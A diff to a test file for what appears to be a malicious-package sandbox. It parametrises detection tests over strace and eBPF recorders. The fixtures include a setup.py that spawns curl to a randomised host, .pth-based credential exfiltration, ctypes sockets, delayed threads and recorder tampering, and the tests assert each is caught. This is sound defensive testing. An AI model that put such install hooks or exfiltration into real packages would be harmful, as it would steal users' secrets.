@@ -25,6 +25,9 @@ from tests.fixtures.builders import (
 )
 
 pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")
+# The key fixtures run under both recorders: strace inside the sandbox and eBPF on the
+# host (root, as CI is). Same findings expected; differences are in README "Recorders".
+RECORDERS = pytest.mark.parametrize("recorder", ["strace", "ebpf"])
 
 
 def finding(report: Report, rule: str, phase: Phase | None = None) -> Any:
@@ -36,7 +39,8 @@ def finding(report: Report, rule: str, phase: Phase | None = None) -> Any:
     )
 
 
-def test_benign_wheel_is_clean(tmp_path: Path) -> None:
+@RECORDERS
+def test_benign_wheel_is_clean(tmp_path: Path, recorder: str) -> None:
     r = Randomised()
     name = r.name("tidy")
     whl = build_wheel(
@@ -49,7 +53,7 @@ def test_benign_wheel_is_clean(tmp_path: Path) -> None:
             f"{name}/util/__init__.py": "VALUE = 3\n",
         },
     )
-    code, report = run_cli(tmp_path, str(whl))
+    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
     assert report is not None
     assert report.verdict is Verdict.CLEAN, (report.verdict_reason, report.findings)
     assert code == 0
@@ -74,7 +78,8 @@ def test_benign_sdist_is_clean(tmp_path: Path) -> None:
     assert any("_in_process" in a or "build_meta" in a or "setup.py" in a for a in argvs), argvs
 
 
-def test_pth_credential_exfiltration_is_malicious(tmp_path: Path) -> None:
+@RECORDERS
+def test_pth_credential_exfiltration_is_malicious(tmp_path: Path, recorder: str) -> None:
     r = Randomised()
     name, cred, host, port = r.name("helper"), r.credential(), r.address(), r.port()
     whl = build_wheel(
@@ -86,7 +91,7 @@ def test_pth_credential_exfiltration_is_malicious(tmp_path: Path) -> None:
             f"{name}_init.pth": pth_line(exfil_source(cred, host, port)),
         },
     )
-    code, report = run_cli(tmp_path, str(whl))
+    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
     assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
     cred_f = finding(report, "PS001", Phase.STARTUP)
     assert any(e.path and e.path.endswith("/" + cred) for e in cred_f.evidence), cred_f
@@ -95,7 +100,8 @@ def test_pth_credential_exfiltration_is_malicious(tmp_path: Path) -> None:
     assert all(e.pid > 0 and e.process for e in out_f.evidence)
 
 
-def test_sdist_setup_spawning_curl_is_malicious_and_host_untouched(tmp_path: Path) -> None:
+@RECORDERS
+def test_sdist_setup_spawning_curl_is_malicious_and_host_untouched(tmp_path: Path, recorder: str) -> None:
     r = Randomised()
     name, host, port, marker = r.name("setupx"), r.address(), r.port(), r.marker()
     body = f"""
@@ -104,7 +110,7 @@ def test_sdist_setup_spawning_curl_is_malicious_and_host_untouched(tmp_path: Pat
     subprocess.run(["curl", "-s", "-m", "2", "http://{host}:{port}/i"], check=False)
     """
     sdist = setuptools_sdist(tmp_path, name, "1.0", name, "X = 1\n", setup_body=body)
-    code, report = run_cli(tmp_path, str(sdist))
+    code, report = run_cli(tmp_path, str(sdist), "--recorder", recorder)
     assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
     spawn = finding(report, "PS003", Phase.INSTALL)
     assert any(e.process and e.process[0].endswith("curl") for e in spawn.evidence), spawn
@@ -128,22 +134,24 @@ def test_copied_downloader_under_random_name_is_caught(tmp_path: Path) -> None:
     assert any(e.path == tool for e in f.evidence)
 
 
-def test_ctypes_libc_connect_is_caught(tmp_path: Path) -> None:
+@RECORDERS
+def test_ctypes_libc_connect_is_caught(tmp_path: Path, recorder: str) -> None:
     r = Randomised()
     name, host, port = r.name("native"), r.address(), r.port()
     whl = build_wheel(tmp_path, name, "0.1", {f"{name}/__init__.py": ctypes_connect_source(host, port)})
-    code, report = run_cli(tmp_path, str(whl))
+    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
     assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
     f = finding(report, "PS002", Phase.IMPORT)
     assert any(e.destination == f"{host}:{port}" and e.syscall == "connect" for e in f.evidence)
 
 
-def test_delayed_thread_after_import_is_caught(tmp_path: Path) -> None:
+@RECORDERS
+def test_delayed_thread_after_import_is_caught(tmp_path: Path, recorder: str) -> None:
     r = Randomised()
     name, host, port, delay = r.name("later"), r.address(), r.port(), r.delay(2.0, 3.5)
     src = delayed_thread_source(delay, exfil_source(r.credential(), host, port))
     whl = build_wheel(tmp_path, name, "0.2", {f"{name}/__init__.py": src})
-    code, report = run_cli(tmp_path, str(whl))
+    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
     assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
     f = finding(report, "PS002", Phase.IMPORT)
     next(e for e in f.evidence if e.destination == f"{host}:{port}")
@@ -151,7 +159,8 @@ def test_delayed_thread_after_import_is_caught(tmp_path: Path) -> None:
     assert imp.window >= delay - 0.5  # the window kept watching until the thread acted
 
 
-def test_recorder_cannot_be_tampered_with(tmp_path: Path) -> None:
+@RECORDERS
+def test_recorder_cannot_be_tampered_with(tmp_path: Path, recorder: str) -> None:
     r = Randomised()
     name = r.name("tamper")
     src = """
@@ -175,7 +184,7 @@ for path in ("/var/lib/pkgsandbox/out/x", "/var/lib/pkgsandbox/out/startup.pytho
         pass
 """
     whl = build_wheel(tmp_path, name, "0.1", {f"{name}/__init__.py": src})
-    code, report = run_cli(tmp_path, str(whl))
+    code, report = run_cli(tmp_path, str(whl), "--recorder", recorder)
     assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
     f = finding(report, "PS007", Phase.IMPORT)
     kills = [e for e in f.evidence if e.syscall in ("kill", "ptrace")]
